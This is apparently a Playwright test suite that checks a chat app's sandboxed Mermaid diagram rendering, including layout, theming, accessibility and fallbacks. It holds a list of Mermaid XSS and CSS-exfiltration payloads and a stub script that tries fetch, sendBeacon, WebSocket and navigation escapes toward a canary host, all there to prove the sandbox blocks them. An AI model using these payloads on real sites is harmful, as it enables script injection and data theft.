package chatgateway.e2e;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import chatgateway.support.browser.AnswerGate;
import chatgateway.support.browser.Axe;
import chatgateway.support.browser.ChatView;
import chatgateway.support.browser.Chromium;
import chatgateway.support.browser.PageTest;
import chatgateway.support.browser.ScreenSize;
import chatgateway.support.browser.ScriptedGateway;
import chatgateway.support.browser.ThirdPartyServer;
import com.microsoft.playwright.Browser;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Route;
import com.microsoft.playwright.options.ColorScheme;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/** Mermaid diagrams are drawn in a frame that reaches nothing, and shown as pictures (docs/threats.md#t39-diagrams). */
@PageTest
@Tag("T39")
record DiagramsTest(Chromium chromium, ScriptedGateway gateway, ThirdPartyServer canary) {
    private static final String FLOW = "```mermaid\ngraph TD\n  A[시작] --> B{조건}\n  B -->|예| C[끝]\n```\n";

    /** Each tries to run, to load, to lead elsewhere or to leave its box. */
    private static final List<String> HOSTILE = List.of(
            "graph TD\n A --> B\n click A \"CANARY/click\" _top\n click B call alert(1)",
            "graph TD\n A --> B\n click A href \"javascript:parent.__xss=1\" _self",
            "%%{init: {\"securityLevel\": \"loose\", \"flowchart\": {\"htmlLabels\": true}}}%%\n"
                    + "graph TD\n A[\"<img src='CANARY/init.png' onerror='top.__xss=1'>\"] --> B",
            "---\nconfig:\n  securityLevel: loose\n  htmlLabels: true\n---\n"
                    + "graph TD\n A[\"<img src=CANARY/yaml.png><script>top.__xss=1</script>\"] --> B",
            "graph TD\n A[\"<iframe src='CANARY/frame'></iframe><a href='CANARY/a'>x</a>\"] --> B",
            "%%{init: {\"themeCSS\": \"@import url(CANARY/theme.css); * { background: url(CANARY/theme.png) }\"}}%%\n"
                    + "graph TD\n A --> B",
            "%%{init: {\"fontFamily\": \"x;a{b} :not(&){background:url(CANARY/font.png)} c{d}\"}}%%\ngraph TD\n A --> B",
            "%%{init: {\"themeVariables\": {\"primaryColor\": \"red;} * {background:url(CANARY/v.png)\"}}}%%\n"
                    + "graph TD\n A --> B",
            "graph TD\n A:::x --> B\n classDef x fill:url(CANARY/def.png),background:url(CANARY/def2.png)",
            "graph TD\n A --> B\n style A fill:#fff,background-image:url(CANARY/style.png)",
            "stateDiagram-v2\n [*] --> A\n classDef x fill:red}</style><img src=CANARY/state.png onerror=top.__xss=1>\n class A x",
            "graph TD\n A@{ img: \"CANARY/shape.png\", label: \"x\", w: 60, h: 60 }",
            "sequenceDiagram\n A->>B: <img src=CANARY/seq.png>\n links A: {\"x\": \"CANARY/link\"}",
            "classDiagram\n class A\n link A \"CANARY/class\" \"x\" _blank\n callback A \"alert\" \"x\"",
            "gantt\n section S\n A :a1, 2024-01-01, 3d\n click a1 href \"CANARY/gantt\"",
            "C4Context\n Person(a, \"A\", \"<img src=CANARY/c4.png>\", $sprite=\"CANARY/sprite.png\", $link=\"CANARY/c4\")",
            "graph TD\n A[\"$$\\\\includegraphics{CANARY/tex.png}$$\"] --> B",
            "%%{init: {\"__proto__\": {\"polluted\": 1}, \"dompurifyConfig\": {\"ADD_TAGS\": [\"script\"]}}}%%\n"
                    + "graph TD\n A[\"<script>top.__xss=1</script>\"] --> B");

    @Test
    void a_diagram_is_drawn_when_its_fence_has_closed_and_nothing_is_loaded_before() {
        var gate = new AnswerGate();
        var requests = new CopyOnWriteArrayList<String>();
        gateway.say("```mermaid\ngraph TD\n  A[시작] --> B[끝]\n", gate, "```\n\n끝.");
        var page = chromium.context().newPage();
        page.onRequest(request -> requests.add(request.url()));
        page.navigate(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        chat.ask("?");
        assertThat(chat.text().locator("pre")).containsText("A[시작] --> B[끝]");
        assertEquals(List.of(), diagramFiles(requests));

        gate.open();

        assertThat(picture(chat)).hasAttribute("alt", "Diagram: 시작, 끝");
        assertThat(chat.text().locator("pre")).isHidden();
        assertTrue(diagramFiles(requests).size() >= 4, requests::toString);
    }

    @Test
    void a_fence_that_never_closed_stays_code() {
        var chat = chromium.chat(gateway, "minji");
        gateway.say("```mermaid\ngraph TD\n  A --> B");
        chat.askAndWait("1?");
        gateway.say(FLOW);
        chat.askAndWait("2?");

        assertThat(picture(chat)).isVisible();
        assertThat(chat.answers().first().locator("pre")).isVisible();
        assertThat(chat.answers().first().locator(".diagram, .diagram-failed")).hasCount(0);
    }

    @Test
    void a_diagram_is_the_same_live_and_after_a_reload() {
        gateway.play(answer -> {
            var text = "- 목록\n\n  " + FLOW.replace("\n", "\n  ") + "\n끝.";
            for (var from = 0; from < text.length(); from += 3) {
                answer.text(text.substring(from, Math.min(from + 3, text.length())));
            }
            answer.end();
        });
        var page = chromium.open(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        chat.askAndWait("3?");
        assertThat(picture(chat)).isVisible();
        var live = chat.text().locator(".code").evaluate("(code) => code.outerHTML");

        page.reload();

        assertThat(picture(chat)).isVisible();
        assertEquals(live, chat.text().locator(".code").evaluate("(code) => code.outerHTML"));
    }

    @Test
    void the_source_is_one_click_away_and_the_picture_can_be_enlarged_and_copied() {
        var context = chromium.context();
        context.grantPermissions(List.of("clipboard-read", "clipboard-write"));
        var page = context.newPage();
        page.navigate(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        gateway.say(FLOW);
        chat.askAndWait("4?");
        assertThat(picture(chat)).isVisible();

        page.getByLabel("Copy as SVG").click();
        page.waitForFunction("async () => (await navigator.clipboard.readText()).startsWith('<svg')");
        var copy = (String) page.evaluate("() => navigator.clipboard.readText()");
        assertTrue(copy.contains("xmlns=\"http://www.w3.org/2000/svg\"") && copy.contains("시작"), copy);
        assertFalse(copy.contains("foreignObject"), copy);

        page.getByLabel("Enlarge the diagram").focus();
        page.keyboard().press("Enter");
        assertThat(page.locator("dialog img")).hasAttribute("alt", "Diagram: 시작, 조건, 끝, 예");
        page.keyboard().press("Escape");
        assertThat(page.locator("dialog img")).hasCount(0);
        assertThat(page.getByLabel("Enlarge the diagram")).isFocused();

        page.getByLabel("Show the source").press("Enter");
        assertThat(chat.text().locator("pre")).containsText("B -->|예| C[끝]");
        assertThat(picture(chat)).isHidden();
        assertThat(page.getByLabel("Show the source")).hasAttribute("aria-pressed", "true");
        page.getByLabel("Show the source").press("Enter");
        assertThat(picture(chat)).isVisible();
    }

    @Test
    void what_is_no_diagram_shows_its_source_and_says_so() {
        var chat = chromium.chat(gateway, "minji");
        gateway.say("```mermaid\ngraph TD\n  A[시작 --> B{조건\n```\n\n```mermaid\n" + "A --> B\n".repeat(4000) + "```");
        chat.askAndWait("5?");

        assertThat(chat.text().locator(".diagram-failed")).hasText(new String[] {
            "This diagram cannot be drawn. Here is its source.", "This diagram cannot be drawn. Here is its source."
        });
        assertThat(chat.text().locator("pre").first()).containsText("A[시작 --> B{조건");
        assertThat(picture(chat)).hasCount(0);
    }

    @Test
    void no_diagram_runs_loads_or_leads_anywhere() {
        var requests = new CopyOnWriteArrayList<String>();
        chromium.allowErrors("Content Security Policy");
        var context = chromium.context();
        context.onRequestFinished(request -> requests.add(request.url())); // one that the policy refuses never finishes
        var page = context.newPage();
        page.navigate(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        for (var hostile : HOSTILE) {
            gateway.say("```mermaid\n" + hostile.replace("CANARY", canary.url()) + "\n```\n\n끝.");
            chat.askAndWait(hostile);
            assertThat(chat.text().locator(".diagram img, .diagram-failed")).isVisible();
            if (picture(chat).count() > 0) {
                picture(chat).click();
            }
        }
        var drawn = page.locator(".diagram img").count();
        assertTrue(drawn > HOSTILE.size() / 2, drawn + " were drawn at all");

        assertEquals(
                List.of(),
                requests.stream()
                        .filter(url -> !url.startsWith(gateway.url() + "/") && !url.startsWith("data:"))
                        .toList());
        assertEquals(List.of(), canary.requests());
        assertNull(page.evaluate("() => window.__xss"));
        assertEquals(1, page.context().pages().size());
        assertTrue(page.url().startsWith(gateway.url()), page.url());
        var copies = (List<?>) page.evaluate("""
                () => [...document.querySelectorAll('.diagram img')].map(({ src }) => decodeURIComponent(src))
                  .filter((svg) => /<script|<foreignObject|<image|<a[ >]|\\son\\w+=|javascript:/i.test(svg)
                    || svg.replace(/<t(ext|span)[^]*?<\\/t/g, '').includes('%s'))""".formatted(canary.url()));
        assertEquals(List.of(), copies);
    }

    /** What the frame runs may be as hostile as it likes. */
    @Test
    void a_frame_that_was_taken_over_reaches_neither_page_nor_network() {
        chromium.allowErrors("Content Security Policy");
        chromium.allowErrors("Refused to");
        chromium.allowErrors("Unsafe attempt");
        chromium.allowErrors("allow-");
        chromium.allowErrors("ERR_BLOCKED");
        chromium.allowErrors("Failed to load");
        var context = chromium.context();
        context.route("**/lib/mermaid.min.js", route -> route.fulfill(script("""
                const attempts = [
                  () => { parent.__xss = 1; },
                  () => { top.location = 'CANARY/top'; },
                  () => { open('CANARY/window'); },
                  () => fetch('CANARY/fetch'),
                  () => fetch('/api/session'),
                  () => navigator.sendBeacon('CANARY/beacon', 'x'),
                  () => { new Image().src = 'CANARY/image.png'; },
                  () => { new WebSocket('CANARY/socket'.replace('http', 'ws')); },
                  () => { new Worker('data:text/javascript,1'); },
                  () => { eval('parent.__xss = 1'); },
                  () => { document.body.append(Object.assign(document.createElement('script'), { src: 'CANARY/s.js' })); },
                  () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'CANARY/f' })); },
                  () => { document.body.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: 'CANARY/p' })); },
                  () => { localStorage.setItem('a', 'b'); },
                  () => { document.cookie = 'a=b'; },
                  () => { alert(1); },
                ];
                globalThis.mermaid = {
                  initialize() {},
                  async render() {
                    for (const attempt of attempts) try { await attempt(); } catch {}
                    return { svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9000 9000"><image href="CANARY/svg.png"/>'
                      + '<script>top.__xss = 1</script><text>done</text></svg>' };
                  },
                };
                """.replace("CANARY", canary.url()))));
        var page = context.newPage();
        page.onDialog(dialog -> {
            throw new AssertionError("a dialog: " + dialog.message());
        });
        page.navigate(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        gateway.say(FLOW);
        chat.askAndWait("6?");

        assertThat(picture(chat)).isVisible();
        assertEquals(List.of(), canary.requests());
        assertNull(page.evaluate("() => window.__xss"));
        assertEquals("", page.evaluate("() => document.cookie"));
        assertEquals(1, context.pages().size());
        assertInside(page, chat);
        // Its last way out is to leave its own document: the page's policy ends that.
        page.evaluate("(url) => { document.querySelector('.diagram-frame').src = url; }", canary.url() + "/away");
        page.waitForTimeout(0);
        assertEquals(List.of(), canary.requests());
    }

    @Test
    void a_large_diagram_stays_in_its_box() {
        var chat = chromium.context(ScreenSize.PHONE.in("en-US")).newPage();
        chat.navigate(gateway.chatUrl("minji"));
        var view = ChatView.of(chat);
        var wide = IntStream.range(0, 60)
                .mapToObj(i -> "N" + i + " --> N" + (i + 1))
                .collect(Collectors.joining("\n"));
        gateway.say("```mermaid\nflowchart LR\n" + wide + "\n```\n");
        view.askAndWait("7?");
        assertThat(picture(view)).isVisible();
        assertInside(chat, view);
        gateway.say("```mermaid\nflowchart TD\n" + wide + "\n```\n");
        view.askAndWait("8?");
        assertThat(picture(view)).isVisible();
        assertInside(chat, view);
    }

    @Test
    void a_diagram_has_the_colours_of_the_page_and_changes_with_them() {
        var page = chromium.context(new Browser.NewContextOptions().setColorScheme(ColorScheme.LIGHT))
                .newPage();
        page.navigate(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        gateway.say(FLOW);
        chat.askAndWait("9?");
        assertThat(picture(chat)).isVisible();
        var light = picture(chat).getAttribute("src");

        page.emulateMedia(new Page.EmulateMediaOptions().setColorScheme(ColorScheme.DARK));
        assertThat(picture(chat)).not().hasAttribute("src", light);
        var dark = picture(chat).getAttribute("src");

        page.evaluate("() => { document.documentElement.dataset.theme = 'light'; }");
        assertThat(picture(chat)).hasAttribute("src", light);
        assertNotEquals(light, dark);
    }

    @Test
    void a_diagram_meets_the_rules_of_accessibility() {
        var page = chromium.open(gateway.chatUrl("minji"));
        var chat = ChatView.of(page);
        gateway.say("```mermaid\ngraph TD\n  accTitle: 로그인\n  accDescr: 시작에서 끝까지\n  A --> B\n```\n");
        chat.askAndWait("10?");

        assertThat(picture(chat)).hasAttribute("alt", "Diagram: 로그인: 시작에서 끝까지");
        var axe = new Axe(page);
        axe.check("a diagram");
        page.getByLabel("Enlarge the diagram").click();
        axe.check("an enlarged diagram");
        assertEquals(List.of(), axe.problems());
    }

    private static Route.FulfillOptions script(String body) {
        return new Route.FulfillOptions()
                .setBody(body)
                .setContentType("text/javascript")
                .setHeaders(Map.of("Cross-Origin-Resource-Policy", "cross-origin"));
    }

    /** The picture is clipped by the answer, and the page is no wider than the screen. */
    private static void assertInside(Page page, ChatView chat) {
        var box = chat.text().locator(".diagram").boundingBox();
        var answer = chat.text().boundingBox();
        assertAll(
                () -> assertTrue(box.x >= answer.x && box.x + box.width <= answer.x + answer.width + 1),
                () -> assertTrue(box.height <= 645, () -> box.height + " px"),
                () -> assertEquals(
                        0,
                        page.evaluate(
                                "() => document.documentElement.scrollWidth - document.documentElement.clientWidth")));
    }

    private static Locator picture(ChatView chat) {
        return chat.text().locator(".diagram img");
    }

    private static List<String> diagramFiles(List<String> requests) {
        return requests.stream()
                .filter(url -> url.matches(".*(diagram|mermaid).*"))
                .toList();
    }
}
